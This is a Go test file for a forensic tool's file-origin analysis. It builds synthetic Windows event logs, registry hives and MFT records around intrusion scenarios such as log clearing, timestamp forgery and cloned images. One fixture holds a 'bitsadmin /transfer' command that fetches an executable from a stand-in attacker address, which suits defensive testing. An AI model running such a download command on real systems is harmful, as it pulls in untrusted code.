package origin_test

import (
	"bytes"
	"strings"
	"time"

	"github.com/birthmark-dfir/birthmark/evtx"
	"github.com/birthmark-dfir/birthmark/mft/mfttest"
	"github.com/birthmark-dfir/birthmark/origin"
	"github.com/birthmark-dfir/birthmark/registry/registrytest"
)

// of makes a record that of another machine than its box.
func of[E evtx.TypedEvent](computer string, e E) E {
	e.Sys().Computer = computer
	return e
}

// hostHive is a SYSTEM hive with the names of a machine.
func hostHive(computer, host, domain string) hiveAt {
	h := emptySystem(computer)
	h.Set(`ControlSet001\Services\Tcpip\Parameters`, noon, registrytest.SZ("Hostname", host), registrytest.SZ("NV Hostname", host), registrytest.SZ("Domain", domain))
	return hiveAt{hiveFolder + "SYSTEM", h}
}

// Machines whose evidence holds records of other machines, or of other names.
func hosts() []story {
	const curl, stolen = system32 + "curl.exe", "203.0.113.99"
	line := "curl -o " + tool + " " + depotURL
	fetch := func(computer string) []any {
		return []any{of(computer, spawned("11:59:58", 1, curl, line, 2, shell, anna)), of(computer, made("12:00:00.2134567", 1, curl, tool, anna))}
	}
	maker := who{"EC2AMAZ-BUILD", "Administrator", "S-1-5-21-9000-9100-9200-500", 0x51a2c}
	byCurl := truth{
		origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z", origin.Writer: "recorded image=" + curl + " | pid=101", origin.Account: `recorded user=CORP\anna | sid=` + anna.sid + ` | logon_id=0x51a2c`,
		origin.Arrival: "inferred kind=download | url=" + depotURL + " | address=" + depot, origin.Logon: "recorded logon_id=0x51a2c | logon_type=2 | time=2026-03-02T08:01:00Z"}
	fromConsole := func(computer string) *evtx.Security4624 {
		return of(computer, signedOn("08:01:00", anna, 2, "127.0.0.1", "WEB01"))
	}
	thief := func() *evtx.Security4624 { return signedOn("11:55:00", anna, 10, stolen, "DC02") }

	return []story{
		// Both logs hold a logon with the LogonId of the writer.
		{"two machines' logs in one folder", box("WEB01.corp.example",
			hostHive("WEB01", "WEB01", "corp.example"),
			sysmonDay(),
			fromConsole(""),
			fetch(""),
			born(tool, "12:00:00.2134567", anna),
			logCopy{logFolder + "DC02-Security.evtx", "DC02.corp.example", []evtx.TypedEvent{thief(), on("06:00:01", &evtx.Security4608{})}}),
			tool, byCurl},

		{"without Sysmon, beside the log of another machine", box("WEB01",
			hostHive("WEB01", "WEB01", ""),
			auditedDay(),
			fromConsole(""),
			ran("11:59:58", 4312, curl, line, 4300, shell, anna),
			ended("12:00:01", 4312, curl, anna),
			born(tool, "12:00:00.2134567", anna),
			logCopy{logFolder + "APP07-Security.evtx", "APP07",
				[]evtx.TypedEvent{ran("11:59:59", 8000, system32+"bitsadmin.exe", "bitsadmin /transfer x http://"+stolen+"/z.exe "+tool, 3100, explorer, anna), thief(), ran("12:30:00", 8100, tool, tool, 3100, explorer, anna)}}),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + curl + " | pid=4312",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid + ` | logon_id=0x51a2c`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2 | time=2026-03-02T08:01:00Z",
			}},

		// The other machine ran a file with that path; this one did not.
		{"forwarded events of another machine name the path", box("WEC01",
			hostHive("WEC01", "WEC01", ""),
			day(),
			signedOn("08:01:00", anna, 2, "127.0.0.1", "WEC01"),
			born(tool, "12:00:00.2134567", anna),
			forwarded("APP07.corp.example", of("APP07.corp.example", made("10:00:00", 1, shell, tool, lee)), spawned("10:05:00", 3, tool, tool, 1, shell, lee),
				dialled("10:05:02", 3, tool, stolen, 443),
				on("10:04:00", &evtx.System7045{ServiceName: "Upd", ImagePath: tool, ServiceType: "user mode service", StartType: "auto start", AccountName: "LocalSystem"}))),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		// A record counts by its machine, whichever file it is in.
		{"a collector that collects its own events too", box("WEC01",
			hostHive("WEC01", "WEC01", ""),
			day(),
			fromConsole(""),
			born(tool, "12:00:00.2134567", anna),
			forwarded("WEC01", fetch("")[0].(evtx.TypedEvent), fetch("")[1].(evtx.TypedEvent), of("APP07", spawned("12:30:00", 9, tool, tool, 2, shell, lee)))),
			tool, byCurl},

		{"a domain controller that collects events", box("DC01.corp.example",
			hostHive("DC01", "DC01", "corp.example"),
			auditedDay(),
			signedOn("11:59:50", lee, 3, jumpHost, "-"),
			shared("12:00:00.1", lee, jumpHost, "C$", `C:\`, `ProgramData\Cache\tool.exe`),
			born(tool, "12:00:00.2134567", admins),
			forwarded("SRV02.corp.example", signedOn("11:58:00", lee, 3, stolen, "KALI"),
				shared("12:00:00", lee, stolen, "C$", `C:\`, `ProgramData\Cache\tool.exe`)[1].(evtx.TypedEvent),
				ran("12:20:00", 4400, tool, tool, 700, services, system))),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=System | pid=4",
				origin.Account:  `inferred user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:  "inferred kind=smb | address=" + jumpHost,
				origin.Logon:    "inferred logon_id=0x7f301 | logon_type=3 | address=" + jumpHost,
			}},

		// The image was built from another machine, whose log is still there.
		{"a clone of an image, with the log of its builder", box("WEB01",
			hostHive("WEB01", "WEB01", ""),
			sysmonDay(),
			of("EC2AMAZ-BUILD", signedOn("04:10:00", anna.in(0x51a2c), 10, stolen, "EC2AMAZ-BUILD")),
			of("EC2AMAZ-BUILD", spawned("04:20:00", 1, system32+"msiexec.exe", "msiexec /i setup.msi", 2, shell, anna)),
			on("05:58:00", &evtx.System6011{OldName: "EC2AMAZ-BUILD", NewName: "WEB01"}),
			on("05:59:00", of("EC2AMAZ-BUILD", &evtx.System13{StopTime: clock("05:59:00")})),
			fromConsole(""),
			spawned("11:59:58", 5, curl, line, 2, shell, anna),
			made("12:00:00.2134567", 5, curl, tool, anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "corroborated time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "recorded image=" + curl + " | pid=105",
				origin.Account:  `recorded user=CORP\anna | sid=` + anna.sid + ` | logon_id=0x51a2c`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "recorded logon_id=0x51a2c | logon_type=2 | time=2026-03-02T08:01:00Z",
			}},

		// The builder's records are about the file, and its owner is of the SID that the machine had
		// before Sysprep.
		{"a file that was there when the image was made", box("WEB01",
			hostHive("WEB01", "WEB01", ""),
			sysmonDay(),
			of("EC2AMAZ-BUILD", signedOn("04:10:00", maker, 10, jumpHost, "EC2AMAZ-BUILD")),
			of("EC2AMAZ-BUILD", spawned("04:19:58", 1, curl, line, 2, shell, maker)),
			of("EC2AMAZ-BUILD", made("04:20:00.2134567", 1, curl, tool, maker)),
			on("05:58:00", &evtx.System6011{OldName: "EC2AMAZ-BUILD", NewName: "WEB01"}),
			on("05:59:00", of("EC2AMAZ-BUILD", &evtx.System13{StopTime: clock("05:59:00")})),
			born(tool, "04:20:00.2134567", maker)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T04:20:00.2134567Z",
				origin.Writer:   "inferred image=" + curl + " | pid=101",
				origin.Account:  `inferred user=EC2AMAZ-BUILD\Administrator | sid=` + maker.sid + ` | logon_id=0x51a2c`,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=10 | address=" + jumpHost,
			}},

		{"a machine that was renamed afterwards", box("WIN-4711",
			hostHive("WEB01", "WEB01", ""),
			sysmonDay(),
			fromConsole(""),
			fetch(""),
			born(tool, "12:00:00.2134567", anna),
			on("13:00:00", &evtx.System6011{OldName: "WIN-4711", NewName: "WEB01"}),
			on("13:01:00", &evtx.System13{StopTime: clock("13:01:00")}),
			of("WEB01", on("13:02:00", &evtx.System12{StartTime: clock("13:02:00")}).(*evtx.System12)),
			of("WEB01", signedOn("14:00:00", anna, 3, stolen, "-"))),
			tool, byCurl},

		{"the label of a host, and its full name", box("WEB01.corp.example",
			hostHive("WEB01", "WEB01", "corp.example"),
			day(),
			fromConsole(""),
			of("WEB01", spawned("06:00:04", 200, system32+"wininit.exe", "", 0, "", system)),
			fetch("WEB01"),
			of("web01", spawned("19:58:00", 203, svchost, "svchost.exe", 201, services, system)),
			born(tool, "12:00:00.2134567", anna)),
			tool, byCurl},
	}
}

// Machines whose clocks, logs or volumes were changed.
func changed() []story {
	const curl = system32 + "curl.exe"
	line := "curl -o " + tool + " " + depotURL
	old := time.Date(2019, 3, 19, 4, 44, 12, 345_678_900, time.UTC)
	console := signedOn("08:01:00", anna, 2, "127.0.0.1", "WEB01")
	detected := &evtx.Defender1116{System: evtx.System{TimeCreated: clock("12:00:02")}, ProductName: "%%827", DetectionID: "{6C0F1D5E-0000-4000-8000-000000000003}", ThreatName: "Trojan:Win32/Example", SourceName: "%%818",
		ProcessName: curl, DetectionUser: anna.String(), Path: "file:_" + tool, ActionName: "%%887"}
	removed := &evtx.Defender1117{System: evtx.System{TimeCreated: clock("12:00:09")}, ProductName: "%%827", DetectionID: "{6C0F1D5E-0000-4000-8000-000000000003}", ThreatName: "Trojan:Win32/Example", SourceName: "%%818",
		ProcessName: curl, DetectionUser: anna.String(), Path: "file:_" + tool, ActionID: "2", ActionName: "%%809", RemediationUser: `NT AUTHORITY\SYSTEM`}
	gone := born(tool, "12:00:00.2134567", anna)
	gone.Deleted = true

	return []story{
		{"the clock was set back in between", box("WEB01", auditedDay(), console,
			ran("11:59:58", 4312, curl, line, 3100, explorer, anna),
			ended("12:00:01", 4312, curl, anna),
			born(tool, "12:00:00.2134567", anna),
			on("12:00:30",
				&evtx.Security4616{SubjectUserSid: anna.sid, SubjectUserName: anna.name, SubjectDomainName: anna.domain, SubjectLogonId: anna.logon, PreviousTime: clock("13:30:30"), NewTime: clock("12:00:30"), ProcessId: 5000, ProcessName: shell}),
			ran("12:00:31", 5100, system32+"bitsadmin.exe", "bitsadmin /list", 3100, explorer, anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + curl + " | pid=4312",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2",
			}},

		// All eight times are of 2019, in a folder that was made minutes before.
		{"all eight times were set", box("WEB01", auditedDay(),
			signedOn("11:59:50", lee, 3, stranger, "-"),
			shared("12:00:00.1", lee, stranger, "C$", `C:\`, `ProgramData\Cache\tool.exe`),
			mfttest.File{Path: "ProgramData/Cache", Dir: true, Times: mfttest.AllAt(clock("11:58:00.5")), Entry: 300},
			mfttest.File{Path: inVolume(tool), Data: []byte("t"), Owner: admins.sid, Times: mfttest.AllAt(old), Entry: 301, Seq: 2}),
			tool, truth{
				origin.Appeared: "unknown time=2026-03-02T12:00:00.1Z | si_created=2019-03-19T04:44:12.3456789Z | fn_created=2019-03-19T04:44:12.3456789Z",
				origin.Writer:   "unknown image=System | pid=4",
				origin.Account:  `unknown user=CORP\adm.lee | sid=` + lee.sid + ` | logon_id=0x7f301`,
				origin.Arrival:  "unknown kind=smb | address=" + stranger,
				origin.Logon:    "unknown logon_id=0x7f301 | logon_type=3 | address=" + stranger,
			}},

		// msiexec wrote a file of that path; later another was moved there, in its entry.
		{"the entry is another file's, and so is the record", box("WEB01", sysmonDay(), console,
			spawned("09:59:58", 1, system32+"msiexec.exe", "msiexec /V", 201, services, system),
			made("10:00:00.5", 1, system32+"msiexec.exe", tool, system),
			on("11:59:00",
				&evtx.Sysmon23{ProcessGuid: guid(3), ProcessId: 103, Image: shell, TargetFilename: tool, User: anna.String(), Hashes: "SHA256=" + strings.Repeat("A1", 32)}),
			spawned("11:58:58", 3, shell, `cmd /c move /y C:\Users\anna\x.bin `+tool, 2, explorer, anna),
			mfttest.File{Path: inVolume(tool), Data: []byte("another"), Owner: anna.sid, Entry: 400, Seq: 7,
				Times: mfttest.Times{Created: clock("11:30:00.7"), Modified: clock("11:30:00.9"), Changed: clock("11:59:00.4"), Accessed: clock("11:59:00.4")}}),
			tool, truth{
				origin.Appeared:     "inferred time=2026-03-02T11:30:00.7Z | time=2026-03-02T11:59:00.4Z",
				origin.OriginalName: `unknown path=C:\Users\anna\x.bin`,
				origin.Writer:       "unknown image=" + shell + " | pid=103",
				origin.Account:      `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Logon:        "unknown logon_id=0x51a2c | logon_type=2",
			}},

		{"the Security log was cleared", box("WEB01",
			signedOn("13:00:05", system, 5, "-", ""),
			on("06:00:03", &evtx.System6005{}),
			on("19:59:00", &evtx.System6013{Uptime: "50340"}),
			on("13:00:00", &evtx.Security1102{SubjectUserSid: lee.sid, SubjectUserName: lee.name, SubjectDomainName: lee.domain, SubjectLogonId: lee.logon}),
			ran("14:00:00", 6000, tool, tool, 3100, explorer, anna),
			signedOn("13:10:00", anna, 10, jumpHost, "WEB01"),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "unknown because=outside_retention",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Executed: `recorded time=2026-03-02T14:00:00Z | user=CORP\anna | parent_image=` + explorer,
				origin.Logon:    "unknown because=outside_retention",
			}},

		// The log no longer reaches back to the creation. Its curl failed, and its logon is of
		// another boot.
		{"the Security log begins after the creation", box("WEB01",
			on("15:00:00", &evtx.Security4608{}),
			signedOn("15:00:05", system, 5, "-", ""),
			signedOn("15:10:00", anna, 10, "203.0.113.99", "WEB01"),
			ran("15:20:00", 4312, curl, line, 3100, explorer, anna),
			signedOn("20:00:00", system, 5, "-", ""),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "unknown because=outside_retention",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Arrival:  "unknown because=outside_retention",
				origin.Logon:    "unknown because=outside_retention",
			}},

		{"the Security log cannot be decoded", box("WEB01", on("06:00:03", &evtx.System6005{}), on("19:59:00", &evtx.System6013{Uptime: "50340"}),
			mfttest.File{Path: logFolder + "Security.evtx", Data: bytes.Repeat([]byte{0xa5}, 70_000)},
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "unknown because=source_unreadable",
				origin.Account:  `inferred sid=` + anna.sid,
				origin.Logon:    "unknown because=source_unreadable",
				origin.Executed: "unknown because=source_unreadable",
			}},

		{"Defender removed it", box("WEB01", day(), console,
			detected, removed, gone),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + curl,
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Arrival:  "unknown kind=download | url=" + depotURL,
				origin.Logon:    "unknown logon_id=0x51a2c | logon_type=2",
			}},

		{"a LogonId that each boot gives again", box("WEB01", auditedDay(),
			signedOn("06:30:00", anna, 10, "203.0.113.99", "WEB01"),
			on("07:00:00", &evtx.System13{StopTime: clock("07:00:00")}),
			on("07:01:00", &evtx.System12{StartTime: clock("07:01:00")}),
			on("07:01:02", &evtx.Security4608{}),
			on("07:01:03", &evtx.System6005{}),
			console,
			ran("11:59:58", 4312, curl, line, 3100, explorer, anna),
			ended("12:00:01", 4312, curl, anna),
			born(tool, "12:00:00.2134567", anna)),
			tool, truth{
				origin.Appeared: "inferred time=2026-03-02T12:00:00.2134567Z",
				origin.Writer:   "inferred image=" + curl + " | pid=4312",
				origin.Account:  `inferred user=CORP\anna | sid=` + anna.sid,
				origin.Arrival:  "inferred kind=download | url=" + depotURL + " | address=" + depot,
				origin.Logon:    "inferred logon_id=0x51a2c | logon_type=2 | time=2026-03-02T08:01:00Z",
			}},
	}
}
